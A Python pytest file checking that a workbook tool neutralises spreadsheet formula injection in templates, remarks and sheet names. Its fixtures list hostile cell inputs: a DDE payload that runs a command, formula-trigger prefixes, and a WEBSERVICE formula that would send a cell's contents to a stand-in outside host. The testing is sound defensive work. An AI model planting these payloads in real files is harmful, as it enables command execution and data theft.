"""Nothing that people typed becomes a formula, a program or a link in a file that we hand out."""

from dataclasses import replace
from io import BytesIO

import openpyxl
import pytest

from data_access.workbook.marking import Remark, mark_workbook
from data_access.workbook.template import write_template
from scoring.issues import Severity
from tests.data_access.workbook.printed_form import FORM
from tests.hostile.test_mutations import WORDS

DDE = "=cmd|'/c calc'!A0"
ARMED = [
    DDE,
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=HYPERLINK(1)",
    "http://x.invalid",
    "{=1}",
]


def opened(content: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(BytesIO(content))


def formulas(book: openpyxl.Workbook) -> list[str]:
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return [str(cell.value) for cell in cells if cell.data_type == "f"]


def saved(*typed: str) -> bytes:
    """Left as formulas, as a clerk's Excel would."""
    book, stream = openpyxl.Workbook(), BytesIO()
    for row, text in enumerate(typed, start=1):
        book.active.cell(row, 1, text)
    book.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize("text", ARMED)
def test_a_template_holds_text_alone(text: str) -> None:
    armed = replace(FORM, title=text, header=(text, text), scope=(text,), guide=(text,))
    book = opened(write_template(armed))
    assert formulas(book) == [] and not any(sheet._hyperlinks for sheet in book)


@pytest.mark.parametrize("text", ARMED)
def test_a_remark_in_a_marked_copy_is_text(text: str) -> None:
    remarks = [
        Remark("Sheet", "A1", Severity.ERROR, text),
        Remark(None, None, Severity.ERROR, text),
    ]
    words = replace(WORDS, title=text)
    marked = mark_workbook(saved("1"), remarks, words)
    assert marked is not None and formulas(opened(marked)) == []


def test_a_formula_that_reaches_out_comes_back_as_the_text_it_is() -> None:
    asks = '=WEBSERVICE("http://x.invalid/"&A1)'
    marked = mark_workbook(saved(DDE, asks, "=SUM(1,2)"), [], WORDS)
    assert marked is not None
    book = opened(marked)
    assert formulas(book) == ["=SUM(1,2)"]
    assert [book["Sheet"][cell].value for cell in ("A1", "A2")] == [DDE, asks]


def test_a_sheet_named_like_a_formula_is_linked_to_as_a_place() -> None:
    book, stream = openpyxl.Workbook(), BytesIO()
    book.active.title = "=A1+'x'!B2".replace("'", "").replace("!", "")
    book.active["A1"] = "1"
    book.save(stream)
    remark = Remark(book.active.title, "A1", Severity.ERROR, "Sai")
    marked = mark_workbook(stream.getvalue(), [remark], WORDS)
    assert marked is not None
    link = opened(marked).worksheets[0]["B4"].hyperlink
    assert link.target is None and link.location == "'=A1+xB2'!A1"
